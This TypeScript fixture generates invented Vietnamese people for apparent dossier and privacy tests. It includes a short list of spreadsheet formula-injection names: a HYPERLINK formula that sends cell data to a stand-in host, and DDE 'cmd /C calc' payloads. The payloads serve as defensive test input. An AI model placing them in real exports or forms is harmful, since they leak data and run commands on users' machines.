import { Random } from './random.ts';

/** Somebody who files a dossier. All invented; no indicator needs any of it. */
export interface Person {
  name: string;
  id: string;
  phone: string;
  address: string;
}

const SURNAMES = [
  'Nguyễn',
  'Trần',
  'Lê',
  'Phạm',
  'Hoàng',
  'Huỳnh',
  'Phan',
  'Vũ',
  'Võ',
  'Đặng',
  'Bùi',
  'Đỗ',
  'Hồ',
  'Ngô',
  'Dương',
  'Lý',
];
const MIDDLES = [
  'Thị Ngọc',
  'Văn',
  'Thị Thanh',
  'Hữu',
  'Thị Mỹ',
  'Quốc',
  'Minh',
  'Thị Bích',
  'Đình',
  'Hoài',
  'Thị Thu',
  'Gia',
];
const GIVENS = [
  'Hạnh',
  'Tuấn',
  'Lan',
  'Phượng',
  'Dũng',
  'Khôi',
  'Quỳnh',
  'Thảo',
  'Vinh',
  'Nghĩa',
  'Trâm',
  'Yến',
  'Ân',
  'Khuê',
  'Lộc',
  'Diễm',
  'Thuỷ',
  'Hoà',
];
const STREETS = [
  'Trương Công Định',
  'Lê Hồng Phong',
  'Hoàng Diệu',
  'Bacu',
  'Trần Hưng Đạo',
  'Hùng Vương',
  'Phạm Văn Đồng',
  'Wừu',
  'Cách Mạng Tháng Tám',
  'Nguyễn Tất Thành',
];
const PLACES = [
  'phường 7, TP. Vũng Tàu',
  'phường Phước Trung, TP. Bà Rịa',
  'thị trấn Phước Hải, Đất Đỏ',
  'phường Diên Hồng, TP. Pleiku',
  'phường Tây Sơn, TX. An Khê',
  'xã Suối Nghệ, Châu Đức',
];

/** Names that a spreadsheet would run as formulas: typed into the portal's form by somebody. */
export const FORMULA_NAMES: readonly string[] = [
  '=HYPERLINK("http://xau.example/?q="&A1,"Bấm vào đây")',
  '+84912000111 Nguyễn Tấn Chèn',
  "@SUM(1+1)*cmd|' /C calc'!A0 Phạm Tấn Chèn",
  "-2+3+cmd|' /C calc'!A0 Lê Tấn Chèn",
];

/** An ID that real systems are full of: typed by a clerk who had none at hand. */
export const EMPTY_ID = '000000001';

const POOL = 480;

function makePeople(): Person[] {
  const random = new Random(20_220_930);
  const names = new Set<string>();
  const people: Person[] = [];
  while (people.length < POOL) {
    const name = `${random.pick(SURNAMES)} ${random.pick(MIDDLES)} ${random.pick(GIVENS)}`;
    if (names.has(name)) continue;
    names.add(name);
    const n = people.length;
    // Old identity cards have nine digits; both kinds begin with zeros often.
    const id =
      n % 7 === 0
        ? `27${String(1_000_000 + random.int(0, 8_999_999))}`
        : `0${random.pick(['77', '64', '79', '52'])}${String(100_000_000 + random.int(0, 899_999_999)).slice(-8)}`.padEnd(
            12,
            String(n % 10),
          );
    const phone = `0${random.pick(['90', '91', '98', '35', '77', '83'])}${String(1_000_000 + random.int(0, 8_999_999))}`;
    people.push({
      name,
      id,
      phone,
      address: `${random.int(1, 480)}/${random.int(2, 60)} đường ${random.pick(STREETS)}, ${random.pick(PLACES)}`,
    });
  }
  FORMULA_NAMES.forEach((name, i) => {
    const like = people[i * 11];
    if (like) people.push({ ...like, name });
  });
  return people;
}

/** The same people at each call; the dossiers of all sets are filed by them. */
export const PEOPLE: readonly Person[] = makePeople();

/**
 * Every personal value that stands in a sample: full names, IDs, phones and addresses, and the IDs and phones as a
 * program leaves them that read them as numbers. Left out is only the ID `000000001`, which is nobody's.
 */
export function personalValues(): string[] {
  const values = new Set<string>();
  for (const person of PEOPLE) {
    for (const value of [person.name, person.id, person.phone, person.address]) values.add(value);
    values.add(person.id.replace(/^0+/, ''));
    values.add(person.phone.replace(/^0+/, ''));
  }
  return [...values];
}
